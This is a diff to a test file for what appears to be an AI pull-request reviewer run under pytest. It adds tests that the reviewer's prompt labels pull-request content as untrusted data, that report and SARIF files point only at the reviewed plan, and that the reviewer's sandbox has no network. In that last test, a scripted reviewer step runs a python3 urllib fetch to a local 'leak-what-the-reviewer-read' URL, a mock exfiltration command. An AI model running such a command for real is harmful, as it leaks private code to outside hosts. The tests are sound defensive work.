@@ -10,6 +10,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import shlex
 import signal
 import subprocess
 import sys
@@ -103,7 +104,11 @@ def test_head_that_rewrites_the_gate_is_reviewed_from_its_content_with_the_base_
     )
 
     result = review_repo.run_subprocess(
-        "--advreview-head=pr", "--advreview-diff=none", "--advreview-json=out.json"
+        "--advreview-head=pr",
+        "--advreview-diff=none",
+        "--advreview-json=out.json",
+        "--advreview-report=report.md",
+        "--advreview-sarif=out.sarif",
     )
 
     result.assert_outcomes(failed=1)
@@ -115,6 +120,9 @@ def test_head_that_rewrites_the_gate_is_reviewed_from_its_content_with_the_base_
             "FAILED docs/plans/evil.md::adversarial-review - *",
         ]
     )
+    # The prompt says that what is reviewed is untrusted data.
+    first = review_repo.server.response_requests[0].last_user_text
+    assert "<untrusted_input>" in first and "untrusted pull request" in first
     # The reviewer read REF's plan, in REF's checkout.
     outputs = tool_outputs(review_repo)
     assert "HEAD-ONLY-PLAN-TEXT" in outputs
@@ -124,6 +132,18 @@ def test_head_that_rewrites_the_gate_is_reviewed_from_its_content_with_the_base_
     assert "head reviewer" not in out
     data = json.loads((review_repo.path / "out.json").read_text())
     assert data["settings"]["head"] == "pr"
+    report = (review_repo.path / "report.md").read_text()
+    assert "· head (as data): `pr`" in report
+    sarif = (review_repo.path / "out.sarif").read_text()
+    uris = {
+        loc["physicalLocation"]["artifactLocation"]["uri"]
+        for run in json.loads(sarif)["runs"]
+        for result in run["results"]
+        for loc in result["locations"]
+    }
+    assert uris == {"docs/plans/evil.md"}
+    checkout = str(checkout_path(out))
+    assert checkout not in report and checkout not in sarif  # REF's paths, not the temp's
     assert data["settings"]["fail_on"] == "high"
     (item,) = data["items"]
     assert item["nodeid"] == "docs/plans/evil.md::adversarial-review"
@@ -239,6 +259,23 @@ def test_an_escalation_request_is_refused_not_sent_to_the_auto_reviewer(
     assert "approval policy is Never; reject command" in tool_outputs(review_repo)
     result.assert_outcomes(passed=1)
     result.stdout.fnmatch_lines(["advreview: * sandbox=read-only approvals=never *"])
+
+
+def test_the_reviewers_commands_have_no_network(review_repo: ReviewRepo) -> None:
+    make_head(review_repo, {"docs/plans/p.md": HEAD_PLAN})
+    url = f"{review_repo.server.url}/leak-what-the-reviewer-read"
+    fetch = f"import urllib.request; urllib.request.urlopen({url!r}, timeout=5)"
+    review_repo.answer(
+        "p.md",
+        shell_step(f"python3 -c {shlex.quote(fetch)}; echo fetch-rc=$?"),
+        {"message": approved_review()},
+    )
+
+    result = review_repo.run_subprocess("--advreview-head=pr", "--advreview-diff=none")
+
+    result.assert_outcomes(passed=1)
+    assert "fetch-rc=1" in tool_outputs(review_repo)
+    assert not [r for r in review_repo.server.requests if "leak-what" in r.path]
 
 
 def test_code_item_reviews_base_dot_dot_dot_head_not_the_checkout(
